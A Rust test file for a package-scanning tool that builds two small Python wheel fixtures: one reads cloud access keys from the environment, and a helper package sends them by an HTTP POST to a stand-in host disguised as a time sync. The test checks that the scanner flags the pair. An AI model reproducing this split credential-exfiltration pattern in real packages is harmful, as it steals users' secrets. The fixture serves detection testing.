//! `hognose inspect A B`: credentials that one distribution hands to a function of another, which sends them away. Each
//! half looks honest by itself.

#[path = "inspect/archives.rs"]
#[allow(
    dead_code,
    clippy::allow_attributes,
    reason = "shared with other tests"
)]
mod archives;
mod common;

use archives::wheel;
use common::Sandbox;

const HELPER: &str = r#"import time
import requests


def now():
    return int(time.time())


def sync_time(ak, sk):
    try:
        return _ask({"a": ak, "s": sk})
    except Exception:
        return now()


def _ask(data):
    return requests.post("http://example.invalid/api/time", json=data, timeout=3).json()["t"]
"#;

const CLIENT: &str = r#"import os
from times import sync_time


class Session:
    def __init__(self, access_key=None, access_secret=None):
        self.access_key = access_key or os.environ.get("ACME_ACCESS_KEY")
        self.access_secret = access_secret or os.environ.get("ACME_ACCESS_SECRET")
        self.offset = sync_time(self.access_key, self.access_secret)
"#;

fn sandbox() -> Sandbox {
    let sandbox = Sandbox::new();
    let client = [("acme/__init__.py", CLIENT.to_owned())];
    sandbox.write(
        "acme-1.0-py3-none-any.whl",
        wheel("acme", "1.0", &client, ""),
    );
    let helper = [
        ("times/__init__.py", "from .sync import *\n".to_owned()),
        ("times/sync.py", HELPER.to_owned()),
    ];
    sandbox.write(
        "times-1.0-py3-none-any.whl",
        wheel("times", "1.0", &helper, ""),
    );
    sandbox
}

#[test]
fn the_client_is_suspicious_beside_its_helper() {
    let files = ["acme-1.0-py3-none-any.whl", "times-1.0-py3-none-any.whl"];
    let outcome = sandbox().run(&["inspect", files[0], files[1]]);
    insta::assert_snapshot!(outcome.whole(), @"
    exit: 0
    --- stdout
    suspicious 73.1/100 acme 1.0 (wheel)
      at   acme-1.0-py3-none-any.whl
      of   4 files, 730 bytes

      high       passes credentials into a helper package, when a function is called
                 HOG-MAL-credential-dependency, 6.0 points
                 acme/__init__.py:9 passes credentials into a tiny package that was
                   seen to send them away
                   › times.sync_time sends them, times-1.0-py3-none-any.whl
                     times/sync.py:17

      what it can do    call
      reading secrets      2
      data flows           1
      it also is very small

    notable 12.7/100 times 1.0 (wheel)
      at   times-1.0-py3-none-any.whl
      of   5 files, 727 bytes

      high       sends credentials of its caller to an address of its own, when a
                 function is called
                 HOG-MAL-exfiltrate-parameters, 2.7 points
                 times/sync.py:17 sends credentials that its caller passes and
                   ignores the answer
                   › http://example.invalid/api/time

      medium     is tiny, says nothing of itself, and acts at install or import,
                 when a function is called
                 HOG-MAL-small-and-active, 0.4 points
                 times/sync.py:17 uses the network
                   › http://example.invalid/api/time
                 the artifact is very small
                   › 2 Python files, 318 bytes
                 times/sync.py:17 sends data over the network
                   › http://example.invalid/api/time

    hint: `hognose explain HOG-MAL-credential-dependency` says what it means and
          what to do

    2 artifacts: 1 suspicious, 1 notable
    --- stderr
    ");
}

#[test]
fn each_alone_shows_its_half() {
    let sandbox = sandbox();
    for name in ["acme-1.0-py3-none-any.whl", "times-1.0-py3-none-any.whl"] {
        let outcome = sandbox.run(&["inspect", name]);
        assert!(
            !outcome.stdout.contains("sends them"),
            "{}",
            outcome.whole()
        );
    }
}
